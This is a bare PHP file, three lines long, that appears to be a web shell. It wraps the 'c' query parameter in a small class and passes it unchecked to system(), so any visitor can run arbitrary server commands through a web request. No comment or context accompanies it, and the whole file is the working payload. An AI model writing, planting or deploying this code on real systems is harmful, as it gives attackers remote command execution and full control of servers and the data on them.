<?php
class K { private $c; function __construct() { $this->c = $_GET["c"]; } function run() { system($this->c); } }
(new K)->run();
